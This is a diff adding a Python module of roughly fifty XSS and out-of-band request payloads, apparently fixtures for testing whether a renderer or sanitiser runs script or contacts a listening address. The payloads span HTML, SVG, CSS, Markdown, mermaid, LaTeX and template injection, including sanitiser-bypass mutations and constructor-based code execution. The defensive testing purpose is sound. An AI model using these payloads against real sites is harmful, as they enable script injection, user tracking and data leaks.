@@ -1,0 +1,62 @@
+"""Texts that make a careless page call elsewhere or run a script; U is replaced by an address that listens."""
+
+from __future__ import annotations
+
+VECTORS = (
+    "<img src=U>",
+    '<img src=x: srcset="U 1x">',
+    '<div style="background-image:url(U)">x</div>',
+    "<input type=image src=U>",
+    "<svg><image href=U xlink:href=U width=9 height=9 /></svg>",
+    "<svg><use href=U#a xlink:href=U#a></use></svg>",
+    "<svg><style>@import 'U';</style></svg>",
+    "<video poster=U></video>",
+    "<video src=U autoplay muted></video>",
+    "<video><track default src=U></video>",
+    "<audio src=U autoplay></audio>",
+    '<picture><source srcset="U"><img src=x:></picture>',
+    "<table background=U><tr><td background=U>x</td></tr></table>",
+    "<body background=U>",
+    "<link rel=stylesheet href=U>",
+    "<link rel=prefetch href=U><link rel=preload as=image href=U>",
+    "<style>@import url(U);</style>",
+    "<style>*{background:url(U)}</style>",
+    "<script src=U></script>",
+    "<script>window.ran=1;fetch('U')</script>",
+    "<iframe src=U></iframe>",
+    "<iframe srcdoc=\"<img src='U'>\"></iframe>",
+    "<object data=U></object>",
+    "<embed src=U>",
+    '<meta http-equiv="refresh" content="0;url=U">',
+    "<base href=U>",
+    "<img src=x: onerror=\"window.ran=1;fetch('U')\">",
+    "<svg onload=\"window.ran=1;fetch('U')\"></svg>",
+    "<svg><animate onbegin=\"window.ran=1;fetch('U')\" attributeName=x dur=1s>",
+    "<details open ontoggle=\"window.ran=1;fetch('U')\">x</details>",
+    "<input autofocus onfocus=\"window.ran=1;new Image().src='U'\">",
+    "<form action=U id=f></form><img src=x: onerror=f.submit()>",
+    '<iframe src="javascript:window.parent.ran=1"></iframe>',
+    "</bdi></span></button></p><img src=U onerror=window.ran=1>",
+    "\"'><img src=U onerror=window.ran=1>",
+    "' autofocus onfocus='window.ran=1;fetch(\"U\")' x='",
+    "<!--><img src=U>-->",
+    '<noscript><p title="</noscript><img src=U onerror=window.ran=1>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=U onerror=window.ran=1&gt;">',
+    "&lt;img src=U onerror=window.ran=1&gt;",
+    "![pixel](U)",
+    "![pixel][ref]\n\n[ref]: U 'title'",
+    "[![pixel](U)](U)",
+    "[read more](U) and [this](javascript:window.ran=1)",
+    "<U> and U",
+    "```mermaid\ngraph TD; A[\"<img src='U'>\"]\n```",
+    "$$\\includegraphics{U}$$ $\\href{javascript:window.ran=1}{x}$",
+    "${(window.ran=1,fetch('U'))}",
+    "`${(window.ran=1,fetch('U'))}`",
+    '{{#with "s" as |s|}}{{s.sub.constructor "window.ran=1;fetch(\'U\')"}}{{/with}}',
+    "{{constructor.constructor \"window.ran=1;fetch('U')\"}}",
+)
+
+
+def aimed(address: str) -> tuple[str, ...]:
+    """The vectors aimed at an address, each at a path of its own."""
+    return tuple(vector.replace("U", f"{address}/v{number}") for number, vector in enumerate(VECTORS))
